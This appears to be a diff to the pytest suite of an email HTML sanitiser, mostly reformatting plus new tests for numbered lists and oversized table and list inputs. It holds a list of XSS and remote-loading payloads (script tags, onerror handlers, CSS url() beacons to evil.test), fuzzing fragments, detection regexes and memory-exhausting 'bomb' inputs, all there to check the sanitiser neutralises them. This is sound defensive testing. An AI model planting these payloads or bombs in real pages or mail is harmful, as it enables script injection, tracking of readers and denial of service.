@@ -1,5 +1,7 @@
 """HTML of mail from outside: nothing runs, loads, submits or overlays; what honest mail looks like stays."""
 
+# ruff: noqa: E501, PT018 (mail as it stands on one line; pairs of facts asserted together)
+
 from __future__ import annotations
 
 import json
@@ -38,7 +40,7 @@ ATTACKS = [  # S-01, S-04, S-05
     '<link rel=stylesheet href="https://evil.test/x.css"><link rel=dns-prefetch href="//evil.test">',
     "<style>@import 'https://evil.test'; input[value^=a]{background:url(https://evil.test)}</style>",
     '<p style="background:url(https://evil.test/x.gif)">x</p>',
-    '<p style="background-image:image-set(\'https://evil.test\' 1x)">x</p>',
+    "<p style=\"background-image:image-set('https://evil.test' 1x)\">x</p>",
     r'<p style="width:expression(alert(1));b\61ckground:u\72l(https://evil.test)">x</p>',
     '<p style="position:fixed;top:0;left:0;width:100%;z-index:9">x</p>',
     '<p style="color:var(--x);cursor:url(https://evil.test)">x</p>',
@@ -48,12 +50,14 @@ ATTACKS = [  # S-01, S-04, S-05
     '<img src="//evil.test/x.gif">',
     '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
     '<svg><feImage href="https://evil.test/x"/></svg>',
-    '<!--[if mso]><script>alert(1)</script><![endif]-->',
+    "<!--[if mso]><script>alert(1)</script><![endif]-->",
     "<title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp>",
     "<a href=\"http://a.test\" title='x' onclick=alert(1) target=_top>x</a>",
     "<select><style><img src=x onerror=alert(1)></style></select>",
 ]
-_RUNS_OR_LOADS = re.compile(r"(?i)<(?:script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|template|video)|<[^>]*\s(?:on\w+|srcset|background|poster|id|class)\s*=|<[^>]*\"\s*(?:javascript|vbscript|data:text)|<img[^>]*src=\"(?:https?:)?//|url\(|expression|position|@import")
+_RUNS_OR_LOADS = re.compile(
+    r"(?i)<(?:script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|template|video)|<[^>]*\s(?:on\w+|srcset|background|poster|id|class)\s*=|<[^>]*\"\s*(?:javascript|vbscript|data:text)|<img[^>]*src=\"(?:https?:)?//|url\(|expression|position|@import"
+)
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
@@ -70,7 +74,11 @@ def test_remote_pictures_are_counted_and_come_back_only_through_us() -> None:
     assert "src=" not in blocked.html and 'alt="logo"' in blocked.html
     shown = clean(html, remote=True, image_url=lambda source: f"/picture?from={source[:5]}")
     assert shown.blocked_remote == 0
-    assert re.findall(r'src="([^"]*)"', shown.html) == ["/picture?from=https", "/picture?from=http:", "/picture?from=cid:o"]
+    assert re.findall(r'src="([^"]*)"', shown.html) == [
+        "/picture?from=https",
+        "/picture?from=http:",
+        "/picture?from=cid:o",
+    ]
 
 
 def test_an_inline_picture_without_part_is_left_out() -> None:
@@ -115,7 +123,22 @@ def test_the_looks_of_old_mail_stay() -> None:
         '<font color="red" face="Arial" size="2">赤い</font></td></tr></table></center><blockquote type="cite">q</blockquote>'
     )
     found = clean(html).html
-    for kept in ("<center>", 'width="600"', 'bgcolor="#ffffff"', 'cellpadding="0"', 'align="center"', 'valign="top"', 'colspan="2"', "font-size:14px", "rgb(1, 2, 3)", "MS Pゴシック", 'color="red"', 'face="Arial"', "padding:4px 8px", 'type="cite"'):
+    for kept in (
+        "<center>",
+        'width="600"',
+        'bgcolor="#ffffff"',
+        'cellpadding="0"',
+        'align="center"',
+        'valign="top"',
+        'colspan="2"',
+        "font-size:14px",
+        "rgb(1, 2, 3)",
+        "MS Pゴシック",
+        'color="red"',
+        'face="Arial"',
+        "padding:4px 8px",
+        'type="cite"',
+    ):
         assert kept in found, kept
 
 
@@ -145,6 +168,9 @@ BOMBS = {
     "fostered": "<table>" + "x<b>" * 50_000,
     "attributes": "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">",
     "anchors": '<a href="http://x.test">' * 60_000,
+    "numbered items": "<ol>" + "<li>x" * 59_000,
+    "cells": "<table><tr>" + "<td>x" * 59_000,
+    "wide and long table": "<table>" + ("<tr><td>" + "x" * 500_000) + "<tr><td>y" * 29_000,
     "10 MB": "<p>text &amp; more</p>" * 500_000,
     "spaces": "<a " + " " * 1_500_000,
 }
@@ -171,13 +197,46 @@ def test_text_below_the_depth_limit_is_kept() -> None:
 
 
 def test_honest_html_passes_the_bounds_unchanged() -> None:
-    html = '<!doctype html><p title="a > b">x<b>y</b><br/></p><ul><li>1<li>2</ul><a href=\'x\'>z</a> 3 < 4 &amp; 5'
+    html = "<!doctype html><p title=\"a > b\">x<b>y</b><br/></p><ul><li>1<li>2</ul><a href='x'>z</a> 3 < 4 &amp; 5"
     assert bounded(html).html == html
     assert not bounded(html).cut
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.lists(st.sampled_from(["<div>", "</div>", "<b x='", "'", '"', ">", "<a href=javascript:alert(1)>", "<svg>", "<style>", "</style>", "<!--", "-->", "<img src=x onerror=alert(1) ", "text", "&", "=", "<script>", "</script", "<td>", "\x00", "\ud800", "<table>", "<title>", "<math>", "<mtext>"]), max_size=25).map("".join))
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                "<div>",
+                "</div>",
+                "<b x='",
+                "'",
+                '"',
+                ">",
+                "<a href=javascript:alert(1)>",
+                "<svg>",
+                "<style>",
+                "</style>",
+                "<!--",
+                "-->",
+                "<img src=x onerror=alert(1) ",
+                "text",
+                "&",
+                "=",
+                "<script>",
+                "</script",
+                "<td>",
+                "\x00",
+                "\ud800",
+                "<table>",
+                "<title>",
+                "<math>",
+                "<mtext>",
+            ]
+        ),
+        max_size=25,
+    ).map("".join)
+)
 def test_pieces_in_any_order_neither_raise_nor_run(html: str) -> None:
     assert not re.search(r"(?i)<[a-z][^<>]*\son\w+=|<script|<style|<svg|\"javascript:", clean(html).html)
     to_text(html)
@@ -194,6 +253,10 @@ def test_text_of_html_can_carry_the_targets_of_links() -> None:
     assert to_text(html, links=True) == "See our page <https://a.test/x> or b.test."
 
 
+def test_numbered_items_keep_their_numbers() -> None:
+    assert to_text("<ol><li>one<ol><li>inner</ol><li>two</ol>") == "1. one\n1. inner\n2. two"
+
+
 def test_hidden_words_are_no_text() -> None:
     assert to_text('<div style="display:none">preheader</div><p>words</p>') == "words"
 
@@ -207,5 +270,10 @@ def test_other_sanitisers_attacks_leave_nothing(name: str) -> None:
     for line in (CORPORA / f"{name}.jsonl").read_text("utf-8").splitlines():
         case = json.loads(line)
         found = clean(case["text"]).html
-        assert not re.search(r'(?i)(?:href|src)="\s*(?:javascript|vbscript|data:text)|style="[^"]*url\(', found), case["id"]
-        assert not re.search(r"(?i)<[a-z][^<>]*\son\w+=|<(?:script|style|svg|math|iframe|form|base|meta|link)", re.sub('"[^"]*"', '""', found)), case["id"]
+        assert not re.search(r'(?i)(?:href|src)="\s*(?:javascript|vbscript|data:text)|style="[^"]*url\(', found), case[
+            "id"
+        ]
+        assert not re.search(
+            r"(?i)<[a-z][^<>]*\son\w+=|<(?:script|style|svg|math|iframe|form|base|meta|link)",
+            re.sub('"[^"]*"', '""', found),
+        ), case["id"]
